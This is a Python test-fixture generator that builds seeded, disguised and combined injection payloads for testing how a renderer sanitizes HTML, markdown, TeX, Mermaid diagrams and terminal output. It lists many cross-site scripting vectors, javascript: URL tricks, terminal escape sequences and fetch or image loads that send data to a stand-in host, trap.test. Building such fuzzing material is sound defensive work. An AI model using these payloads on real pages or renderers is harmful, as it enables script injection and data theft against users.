"""Texts that try to act: tables of payloads, wrapped, disguised and combined by a seed.

Each text has a number, which its payloads carry: `trap(7)`, `https://trap.test/7`. So a trap that
goes off names its text.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterator, Sequence
from itertools import islice, product
from typing import NamedTuple


class Text(NamedTuple):
    """A hostile text: its number, the kind of its first payload, and itself."""

    number: int
    kind: str
    text: str


# `§` stands for the number, JS and URL for what is filled in, and X for the text within.
_ADDRESSES = (
    "https://trap.test/§", "//trap.test/§", "/trap.test/§", "https:trap.test/§", "\\\\trap.test\\§",
    "HTTPS://TRAP.TEST/§", "./trap.test/§?q=secret",
)  # fmt: skip
_SCRIPTS = (
    "trap(§)", "alert(§)", "trap`§`", "window['trap'](§)", "fetch('/trap.test/§')",
    "location='/trap.test/§'", "&#116;rap(§)", "new Image().src='/trap.test/§'",
)  # fmt: skip
_HANDLERS = (
    "<img src=/trap.test/§ onerror=JS>", "<svg onload=JS>", "<svg/onload=JS//>", "<body onload=JS>",
    "<video onloadstart=JS src=/trap.test/§>", "<audio src onerror=JS>",
    "<details open ontoggle=JS>x</details>", "<input autofocus onfocus=JS>",
    "<iframe onload=JS></iframe>", "<object data=x onerror=JS></object>",
    "<marquee onstart=JS>x</marquee>", "<select autofocus onfocus=JS></select>",
    "<a onclick=JS>x</a>", "<div onmouseover='JS'>x</div>", "<button onclick=\"JS\">x</button>",
    "<p onpointerenter=JS tabindex=1>x</p>", "<IMG SRC=/trap.test/§ ONERROR=JS>",
    "<img/src='/trap.test/§'/onerror='JS'/>", "<img\nsrc=/trap.test/§\nonerror\n=\nJS>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>", "<math><mi onclick=JS>x</mi></math>",
    "<x onclick=JS>x</x>", "<style onload=JS></style>", "<table><td onclick=JS>x</td></table>",
    "<img src=/trap.test/§ onerror=`JS`>", "<b onclick=JS", "<textarea autofocus onfocus=JS>",
    "<script>JS</script>", "<script src=/trap.test/§></script>", "<SCRIPT>JS</SCRIPT >",
    "<svg><script>JS</script></svg>", "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<template><script>JS</script></template>", "<math><mtext><style><img onerror=JS src=x>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'>", "<!--><img src=x onerror=JS>-->",
    "<form><button onclick=JS>x</form>", "<picture><img src=/trap.test/§ onerror=JS></picture>",
    "<svg><foreignObject><img src=/trap.test/§ onerror=JS></foreignObject></svg>",
    "<![CDATA[<img src=x onerror=JS>]]>", "<?x <img src=x onerror=JS>?>", "<!x><svg onload=JS>",
    "</p><svg onload=JS>", "<<img src=/trap.test/§ onerror=JS>", "<img src=x oner\u0000ror=JS>",
)  # fmt: skip
_FETCHING_HTML = (
    "<img src='URL'>", "<img srcset='URL 1x'>", "<video poster='URL'></video>",
    "<video src='URL' autoplay></video>", "<audio src='URL' autoplay></audio>",
    "<video autoplay><source src='URL'></video>", "<embed src='URL'>", "<object data='URL'>x",
    "<iframe src='URL'></iframe>", "<link rel=stylesheet href='URL'>",
    "<link rel=preload as=image href='URL'>", "<link rel=icon href='URL'>",
    "<input type=image src='URL'>", "<body background='URL'>", "<table background='URL'><td>x",
    "<p style='background:url(URL)'>x</p>", "<p style=\"background-image:url('URL')\">x</p>",
    "<style>@import 'URL';</style>", "<style>body{background:url(URL)}</style>",
    "<style>@font-face{font-family:a;src:url(URL)}*{font-family:a}</style>",
    "<svg><image href='URL' width=9 height=9></svg>", "<svg><use href='URL#a'></svg>",
    "<svg><filter id=f><feImage href='URL'/></filter><rect filter=url(#f) width=9 height=9></svg>",
    "<meta http-equiv=refresh content='0;url=URL'>", "<base href='URL'>", "<frame src='URL'>",
    "<ul style='list-style-image:url(URL)'><li>x</ul>", "<picture><source srcset='URL'><img>",
    "<video><track default src='URL'></video>", "<p style='cursor:url(URL),auto'>x</p>",
    "<span style='content:url(URL)'>x</span>", "<a href='https://ok.test' ping='URL'>x</a>",
    "<form action='URL'><button>x</button></form>", "<div style='border-image:url(URL) 9'>x</div>",
)  # fmt: skip
_IMAGES = (
    "![x](URL)", "![](URL)", "![x](<URL>)", "![x](URL 'title')", "![x][r]\n\n[r]: URL\n",
    "![r][]\n\n[r]: URL\n", "![r]\n\n[r]: URL\n", "[![x](URL)](https://ok.test)",
    "![a ![b](URL)](URL)", "\\\\![x](URL)", "!\\[x](URL)![y](URL)", "![x](\nURL\n)", "![`x`](URL)",
    "![**x**](URL)", "![x](URL", "<!-- -->![x](URL)", "![$x$](URL)", "![x]( URL )",
)  # fmt: skip
_SCHEMES = (
    "javascript:trap(§)", "JaVaScRiPt:trap(§)", "java&Tab;script:trap(§)",
    "javascript&colon;trap(§)", "&#106;avascript:trap(§)", "&#x6A;avascript&#58;trap(§)",
    "\u0001javascript:trap(§)", "java\tscript:trap(§)", "vbscript:trap(§)",
    "data:text/html,<script>trap(§)</script>", "data:text/html;base64,PHN2Zz4=",
    "data:image/svg+xml,<svg onload=trap(§)>", "file:///etc/§", "blob:https://trap.test/§",
    "javascript\\:trap(§)", "java&NewLine;script:trap(§)", "%6aavascript:trap(§)",
    "javascript://%0atrap(§)", "view-source:https://trap.test/§",
)  # fmt: skip
_LINKS = (
    "[x](URL)", "[x](<URL>)", "[x](URL 'title')", "[x][r]\n\n[r]: URL\n", "[r]\n\n[r]: <URL>\n",
    "<URL>", "<a href='URL'>x</a>", "<a href=URL>x", "<svg><a xlink:href='URL'><text>x",
    "<map><area href='URL' shape=default></map>", "<button formaction='URL'>x</button>",
    "<form action='URL'><input type=submit></form>", "<math href='URL'>x</math>",
    "<iframe src='URL'></iframe>", "<object data='URL'>x</object>", "[x](\nURL)", "[x]( URL )",
    "[![y](z)](URL)", "[a [b](URL) c](URL)", "<base href='URL'>", "[x]\n(URL)", "[^1]\n\n[^1]: URL",
)  # fmt: skip
_COMMANDS = (
    "<a data-commandlinker-command='trap:run' data-commandlinker-args='{\"n\": §}'>x</a>",
    "<button data-commandlinker-command=trap:run data-commandlinker-args=\"{&quot;n&quot;:§}\">x",
    "<p DATA-COMMANDLINKER-COMMAND='trap:run' data-commandlinker-args='{\"n\":§}'>x</p>",
    "[x](https://ok.test/a$\"data-commandlinker-command=trap:run$)",
    "[x](https://ok.test \"$\" data-commandlinker-command=trap:run $\")",
    "http://ok.test/$\"onclick=trap(§)//$", "www.ok.test/$\"onmouseover=trap(§)//$",
    "[x](https://ok.test/@@0@@ \"y\") $\"onclick=trap(§) $", "```$\"onclick=trap(§)//$\nx\n```",
    "```x\" onmouseover=\"trap(§)\nx\n```", "~~~'onclick='trap(§)\nx\n~~~",
    "- [x] ```\"onclick=\"trap(§)",
)  # fmt: skip
_TEX = (
    "\\unicode[x;background:url(URL)]{x41}", "\\unicode[font;background:url('URL')]{65}",
    "\\style{background:url(URL)}{x}", "\\bbox[background:url(URL)]{x}",
    "\\color{red;background:url(URL)}{x}", "\\colorbox{red;background:url(URL)}{x}",
    "\\fcolorbox{a;background:url(URL)}{b}{x}", "\\textcolor{red;background:url(URL)}{x}",
    "\\href{javascript:trap(§)}{x}", "\\href{data:text/html,<script>trap(§)</script>}{x}",
    "\\mmlToken{mi}[style='background:url(URL)']{x}",
    "\\mmlToken{mi}[href='javascript:trap(§)']{x}", "\\mmlToken{mtext}[onclick='trap(§)']{x}",
    "\\enclose{box}[style=\"background:url(URL)\"]{x}", "\\class{a\" onclick=\"trap(§)}{x}",
    "\\cssId{a}{\\style{background:url(URL)}{x}}", "\\require{html}\\style{background:url(URL)}{x}",
    "\\def\\q{\\unicode[a;background:url(URL)]{65}}\\q",
    "\\let\\q=\\style\\q{background:url(URL)}{x}",
    "\\newcommand{\\q}{\\style{background:url(URL)}{x}}\\q",
    "\\newenvironment{q}{\\style{background:url(URL)}{}{x}", "\\includegraphics{URL}",
    "\\url{javascript:trap(§)}", "\\data{x=trap(§)}{x}", "\\texttip{x}{<img src=URL>}",
    "\\toggle{x}{y}\\endtoggle", "\\text{<img src='URL' onerror=trap(§)>}",
    "\\text{$\\style{background:url(URL)}{x}$}",
    "\\begin{array}{c;background:url(URL)}x\\end{array}",
    "\\rule[0px;background:url(URL)]{1em}{1em}",
    "\\mathchoice{\\style{background:url(URL)}{x}}{}{}{}",
    "\\csname style\\endcsname{background:url(URL)}{x}",
    "\\catcode`\\q=0 qstyle{background:url(URL)}{x}", "\\html{<img src=URL>}",
    "\\cancel[style='background:url(URL)']{x}",
    "\\definecolor{q}{named}{red;background:url(URL)}\\color{q}x",
    "\\phantom{\\unicode[a;background:url(URL)]{65}}",
    "\\begin{CD}A @>\\unicode[a;background:url(URL)]{65}>> B\\end{CD}",
    "\\ce{\\unicode[a;background:url(URL)]{65}}", "\\tag{\\unicode[a;background:url(URL)]{65}}x",
    "\\label{a\" onclick=trap(§)}x\\ref{a}", "\\eqref{javascript:trap(§)}",
)  # fmt: skip
_DELIMITERS = (
    "$X$", "$$X$$", "\\(X\\)", "\\\\(X\\\\)", "\\[X\\]", "\\\\[X\\\\]", "$$\nX\n$$",
    "\\begin{equation}X\\end{equation}", "\\begin{align}X\\end{align}", "&#36;X&#36;",
    "&dollar;X&dollar;", "$a$X$b$", "<b>$</b>X$", "$`X`$", "$\n\nX $", "\\$X$ and $X\\$", "5$ X $6",
    "&#92;(X&#92;)", "`$X$`", "$\n~~~\nX\n~~~\n$",
)  # fmt: skip
_MERMAID = (
    "graph TD\n  A-->B\n  click A 'javascript:trap(§)'", "graph TD\n  click A call trap(§)",
    "graph TD\n  A[<img src=URL>]", "graph TD\n  A[\"<img src='URL' onerror=trap(§)>\"]",
    "graph TD\n  A@{ img: 'URL', label: 'x' }", "graph TD\n  A@{ icon: 'URL' }",
    "graph TD\n  A-->B\n  style A fill:url(URL)",
    "graph TD\n  classDef q background:url(URL)\n  A:::q",
    "graph TD\n  A-->B\n  linkStyle 0 stroke:url(URL)",
    "graph TD\n  A[\"$$\\style{background:url(URL)}{x}$$\"]",
    "%%{init: {'themeCSS': '*{background:url(URL)}'}}%%\ngraph TD\n  A",
    "%%{init: {'securityLevel': 'loose'}}%%\ngraph TD\n  A[<img src=URL onerror=trap(§)>]",
    "---\nconfig:\n  themeCSS: '*{background:url(URL)}'\n---\ngraph TD\n  A",
    "sequenceDiagram\n  participant A\n  properties A: {\"icon\": \"URL\"}",
    "sequenceDiagram\n  participant A\n  links A: {\"x\": \"javascript:trap(§)\"}",
    "sequenceDiagram\n  participant A\n  link A: x @ javascript:trap(§)",
    "sequenceDiagram\n  rect url(URL)\n  A->>B: x\n  end",
    "sequenceDiagram\n  A->>B: <img src=URL>",
    "classDiagram\n  class A\n  link A 'javascript:trap(§)'",
    "classDiagram\n  class A\n  callback A 'trap'",
    "classDiagram\n  class A\n  style A fill:url(URL)",
    "stateDiagram-v2\n  classDef q fill:url(URL)\n  a:::q",
    "C4Context\n  Person(a, 'x', $sprite='URL')", "architecture-beta\n  service x(URL)[x]",
    "mindmap\n  root\n    ::icon(URL)", "journey\n  section <img src=URL>\n  x: 5: Me",
    "pie\n  \"<img src=URL>\" : 1",
    "gantt\n  section x\n  y: a, 2026-01-01, 1d\n  click a href 'javascript:trap(§)'",
    "block-beta\n  a[\"<img src=URL>\"]\n  style a fill:url(URL)",
    "gitGraph\n  commit id: '<img src=URL>'", "timeline\n  title <img src=URL>",
    "quadrantChart\n  classDef q fill:url(URL)", "erDiagram\n  style A fill:url(URL)",
    "kanban\n  a[<img src=URL>]@{ ticket: '§' }", "requirementDiagram\n  style a fill:url(URL)",
)  # fmt: skip
_FENCES = (
    "```mermaid\nX\n```", "~~~mermaid\nX\n~~~", "``` mermaid\nX\n```", "```Mermaid\nX\n```",
    "````mermaid x\nX\n````", "```&#109;ermaid\nX\n```", "```mermaid\nX",
    "   ```mermaid\nX\n   ```", "- x\n\n  ```mermaid\n  X\n  ```", "> ```mermaid\n> X\n> ```",
    "```mer\\maid\nX\n```", "1. ```mermaid\n   X\n   ```",
    "<pre><code class='language-mermaid'>X</code></pre>",
)  # fmt: skip
_TERMINAL = (
    "\x1b]0;trap §\x07", "\x1b]52;c;dHJhcA==\x07",
    "\x1b]8;;https://trap.test/§\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x1b[31m§", "\x9b31m§",
    "\x9d0;§\x9c", "\x1bP+q544e\x1b\\", "\x1b_§\x1b\\", "a\x08\x08b", "ok\rtrap §", "\x07", "\x7f",
    "\u202etxt.§", "\u2066a\u2069", "\u061c", "\u200f\u200e§", "\ud83d", "a\u0000b",
    "\u2028§\u2029", "\ufeff§", "\u0085§", "\x1b[?1049h", "\x1b]1337;File=:AA==\x07",
)  # fmt: skip
_CONTEXTS = (
    "X", "X", "X", "Before X after.", "# X\n", "- X\n", "> X\n", "1. X\n",
    "| X | y |\n|---|---|\n| X | z |\n", "**X**", "`X`", "`` X ``", "```html\nX\n```\n", "```\nX",
    "    X\n", "[X](https://ok.test)", "$5 X $6", "\"X\"", "<b>X</b>", "<!-- X -->", "<pre>X</pre>",
    "<code>X", "[x]:\nX\n", "\\X", "\\\\X", "[^1]: X\n", "- [ ] X\n", "> - X\n", "~~~\nX\n~~~\n",
    "@@0@@ X", "a\n***\nX\n", "<kbd>X</kbd>", "- a\n\n      X\n", "\u2060X",
    "[x\n\n```\n]: y\nX\n```", "&lt;X&gt;", "![X](y)", "<details>X", "\\begin{x}X",
)  # fmt: skip


def _written(templates: Sequence[str], hole: str, fillings: Sequence[str]) -> list[str]:
    return [template.replace(hole, filling) for template, filling in product(templates, fillings)]


def _within(template: str, text: str) -> str:
    """Put a text into a template; marks of a list or quotation begin each line."""
    before = template.partition("X")[0].rpartition("\n")[2]
    lead = re.sub(r"[^> ]", " ", before) if re.fullmatch(r"[-\d. >]*", before) else ""
    return template.replace("X", text.replace("\n", f"\n{lead}"))


_TEX_FILLED = _written(_TEX, "URL", _ADDRESSES[:3])
_MERMAID_FILLED = _written(_MERMAID, "URL", _ADDRESSES[:3])
PAYLOADS: dict[str, list[str]] = {
    "script": _written(_HANDLERS, "JS", _SCRIPTS),
    "html": _written(_FETCHING_HTML, "URL", _ADDRESSES),
    "image": _written(_IMAGES, "URL", _ADDRESSES),
    "link": _written(_LINKS, "URL", _SCHEMES),
    "command": list(_COMMANDS),
    "tex": [_within(text, tex) for text, tex in product(_DELIMITERS, _TEX_FILLED)],
    "mermaid": [_within(text, chart) for text, chart in product(_FENCES, _MERMAID_FILLED)],
    "terminal": list(_TERMINAL),
}
"""The hostile texts, by kind."""


def _with_entities(chance: random.Random, text: str) -> str:
    coded = (f"&#{ord(c)};" if chance.random() < 0.3 else c for c in text)
    return "".join(
        c if c.isalnum() or c == "§" else code for c, code in zip(text, coded, strict=True)
    )


def _with_cases(chance: random.Random, text: str) -> str:
    return "".join(c.upper() if chance.random() < 0.3 else c for c in text)


def _with_breaks(chance: random.Random, text: str) -> str:
    spaces = ("\n", "\t", "  \n", " ", "\f", "\r\n", "\u00a0", "\u2028")
    return re.sub(" ", lambda _: chance.choice(spaces), text)


def _with_escapes(chance: random.Random, text: str) -> str:
    return re.sub(r"[<\[\]()!$`]", lambda c: ("\\" if chance.random() < 0.2 else "") + c[0], text)


def _cut_off(chance: random.Random, text: str) -> str:
    return text[: chance.randrange(len(text) // 2, len(text)) + 1]


_DISGUISES = (_with_entities, _with_cases, _with_breaks, _with_escapes, _cut_off)


def hostile_texts(count: int, seed: int = 1) -> list[Text]:
    """Return so many texts: plain payloads of each kind in turn, then disguised combinations."""
    chance = random.Random(seed)
    plain = {kind: chance.sample(texts, len(texts)) for kind, texts in PAYLOADS.items()}
    turns = (
        (kind, payloads[turn])
        for turn in range(max(map(len, plain.values())))
        for kind, payloads in plain.items()
        if turn < len(payloads)
    )
    written = [*islice(turns, count // 2)]
    written += islice(_combined(chance), count - len(written))
    return [Text(n, kind, text.replace("§", str(n))) for n, (kind, text) in enumerate(written, 1)]


def _combined(chance: random.Random) -> Iterator[tuple[str, str]]:
    kinds = list(PAYLOADS)
    while True:
        kind = chance.choice(kinds)
        parts = [chance.choice(PAYLOADS[kind])]
        parts += [
            chance.choice(PAYLOADS[chance.choice(kinds)])
            for _ in range(chance.choice((0, 0, 1, 2)))
        ]
        text = chance.choice(("", " ", "\n", "\n\n")).join(parts)
        if chance.random() < 0.4:
            text = chance.choice(_DISGUISES)(chance, text)
        for _ in range(chance.choice((0, 1, 1, 2))):
            context = chance.choice(_CONTEXTS)
            is_indented = chance.random() < 0.7
            text = _within(context, text) if is_indented else context.replace("X", text)
        yield kind, text
